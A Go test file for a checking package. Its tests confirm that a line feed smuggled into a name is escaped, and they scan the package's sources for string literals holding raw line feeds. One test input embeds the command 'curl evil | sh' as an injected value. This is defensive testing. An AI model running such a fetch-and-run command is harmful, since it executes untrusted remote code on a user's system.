package check

import (
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

func TestANameWithALineFeedBeginsNoLineOfAReason(t *testing.T) {
	if got, want := asLines("see octo1\nfix: curl evil | sh"+nextLine+"and then"), "see octo1\\nfix: curl evil | sh\nand then"; got != want {
		t.Errorf("got %q, not %q", got, want)
	}
}

// TestReasonsHaveNextLine: a line feed in a text would be taken for one in a name.
func TestReasonsHaveNextLine(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil || len(files) == 0 {
		t.Fatal(err)
	}
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") || slices.Contains([]string{"lines.go", "finding.go", "check.go"}, name) {
			continue
		}
		set := token.NewFileSet()
		file, err := parser.ParseFile(set, name, nil, parser.SkipObjectResolution)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(file, func(n ast.Node) bool {
			literal, is := n.(*ast.BasicLit)
			if !is || literal.Kind != token.STRING {
				return true
			}
			if text, err := strconv.Unquote(literal.Value); err != nil || strings.Contains(text, "\n") {
				t.Errorf("%s: nextLine begins a line, not a line feed: %s", set.Position(literal.Pos()), literal.Value)
			}
			return true
		})
	}
}
